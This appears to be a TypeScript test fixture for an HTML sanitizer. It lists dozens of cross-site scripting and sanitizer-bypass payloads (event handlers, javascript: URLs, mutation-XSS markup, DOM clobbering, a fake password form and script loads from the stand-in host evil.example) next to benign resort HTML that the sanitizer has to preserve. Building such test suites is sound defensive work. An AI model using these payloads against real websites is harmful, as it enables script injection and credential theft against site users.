const RUN = 'window.ran=1'
const AWAY = 'https://evil.example/x'

/**
 * Elements that run or fetch by themselves, with every event handler that fires without user
 * interaction.
 */
const handlers = [
  'onload',
  'onerror',
  'onfocus',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'ontoggle',
  'onpageshow',
  'onbegin',
  'onbeforetoggle',
  'oncanplay',
  'onloadstart',
]
const byHandler = [
  ...handlers.map((handler) => `<img src=x ${handler}="${RUN}">`),
  ...handlers.map(
    (handler) => `<svg ${handler}="${RUN}"><animate ${handler}="${RUN}" attributeName=x dur=1s>`,
  ),
  ...handlers
    .slice(0, 6)
    .map(
      (handler) => `<div tabindex=0 autofocus style="animation:x 1ms" ${handler}='${RUN}'>x</div>`,
    ),
  ...[
    'video',
    'audio',
    'input',
    'details open',
    'marquee',
    'select autofocus',
    'textarea autofocus',
    'button autofocus',
    'body',
    'iframe',
    'object',
    'embed',
    'keygen autofocus',
    'style',
  ].map(
    (element) =>
      `<${element} src=x onload="${RUN}" onerror="${RUN}" onfocus="${RUN}" ontoggle="${RUN}" ` +
      `onstart="${RUN}">`,
  ),
]

/** URLs that run script, in every attribute that takes a URL. */
const running = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  ` javascript:${RUN}`,
  `&#1;javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `blob:${AWAY}`,
]
const byAddress = running.flatMap((address) => [
  `<a href="${address}" id=press>press</a>`,
  `<img src="${address}">`,
  `<iframe src="${address}"></iframe>`,
  `<form action="${address}"><button>x</button></form>`,
])

const elements = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image ` +
    `href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text id=press y=20>x</text></a></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${RUN}"/><a ` +
    'id=x><text>x</text></a></svg>',
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  '<svg><foreignObject><iframe ' +
    'srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="data:text/html,<script>parent.ran=1</script>"></object>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<applet code=x></applet>`,
  `<link rel=stylesheet href="${AWAY}">`,
  `<link rel=import href="${AWAY}">`,
  `<link rel=prefetch href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href="${AWAY}">`,
  `<style>@import '${AWAY}';</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>`,
  `<img src="${AWAY}">`,
  `<img src="//evil.example/x">`,
  `<img src="/\\evil.example/x">`,
  `<img src="/&#9;/evil.example/x">`,
  `<img src="/a.png" srcset="${AWAY} 1x">`,
  `<picture><source srcset="${AWAY}"><img src="/a.png"></picture>`,
  `<img lowsrc="${AWAY}" dynsrc="${AWAY}">`,
  `<video poster="${AWAY}"></video>`,
  `<video><source src="${AWAY}"></video>`,
  `<audio src="${AWAY}"></audio>`,
  `<track src="${AWAY}">`,
  `<input type=image src="${AWAY}">`,
  `<table background="${AWAY}"><tr><td background="${AWAY}">x</td></tr></table>`,
  `<body background="${AWAY}">x</body>`,
  `<svg><image href="${AWAY}"/></svg>`,
  `<svg><feImage href="${AWAY}"/></svg>`,
  `<svg><rect fill="url(${AWAY}#x)"/></svg>`,
  `<form action="${AWAY}"><input name=password type=password><button>Sign in</button></form>`,
  `<form id=root><input name=nodeName><input name=attributes></form>`,
  `<img name=getElementById><img id=body>`,
  `<a id=texts href="cid:x">x</a><a id=texts name=toString href="cid:x">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ' +
    `onerror=${RUN}&gt;">`,
  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img ' +
    `onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<math></p><style><!--</style><img src onerror=${RUN}>-->`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<div><template shadowrootmode=closed><script>${RUN}</script></template></div>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!---!><img src=x onerror=${RUN}>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<![endif]--><img src=x onerror=${RUN}>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img """><script>${RUN}</script>">`,
  `<a href="#" onclick="${RUN}" id=press>x</a>`,
  `<a href="/" target="_blank" ping="${AWAY}">x</a>`,
  `<a href="https://evil.example" attributionsrc="${AWAY}">x</a>`,
  `<p is=x-y onfocus=${RUN} tabindex=0 autofocus>x</p>`,
  `<x-evil onclick=${RUN}>x</x-evil>`,
  `<slot name=x onslotchange=${RUN}></slot>`,
  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<frameset onload=${RUN}></frameset>`,
  `<portal src="${AWAY}"></portal>`,
  `<b${'<b'.repeat(500)}><img src=x onerror=${RUN}>`,
  `${'<div>'.repeat(600)}<img src=x onerror=${RUN}>`,
  `<p class="op" id="root" name="x" data-x="1" aria-label="x" onclick="${RUN}">x</p>`,
  `\u0000<img src=x onerror=${RUN}>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<img src=x onerror\u00A0=${RUN}>`,
  `<img src=x\u000Bonerror=${RUN}>`,
]

/**
 * Attacks in a resort's HTML, including malformed markup that browsers repair; each sets `ran` or
 * requests evil.example.
 */
export const HTML_VECTORS: readonly string[] = [...byHandler, ...byAddress, ...elements]

/** Legitimate HTML of resorts, which must be kept byte for byte. */
export const GOOD_HTML: readonly string[] = [
  '<p><strong>Good to know:</strong> check-in is on <em>Sunday</em>.</p>',
  '<h2>Pool</h2><ul><li>Open 8 AM to 8 PM</li><li>Towels &amp; chairs</li></ul><hr>',
  '<p>Write to <a href="mailto:owners@heroncove.example">owner services</a> or call <a ' +
    'href="tel:+15550100142">us</a>.<br>Thank you.</p>',
  '<table><thead><tr><th>Season</th><th ' +
    'colspan="2">Days</th></tr></thead><tbody><tr><td>High</td><td>Jun 15</td><td>Sep ' +
    '7</td></tr></tbody></table>',
  '<p><a href="https://heroncove.example/arrival?a=1&amp;b=2" title="The way">How to find ' +
    'us</a> · <a href="#/nav/bills">Your bills</a></p>',
  (
    '<div><img src="/api/brand/HERON/pool.jpg" alt="The pool" width="320" height="200">' +
    '<p lang="fr">Bonjour, ça va\u00A0?</p><small>¹ 日本語</small></div>'
  ).replace('\u00A0', '&nbsp;'),
  '<ol><li><b>One</b></li><li><u>Two</u> <i>three</i> ' +
    '<span>four</span></li></ol><h3>More</h3><h4>Yet more</h4>',
]
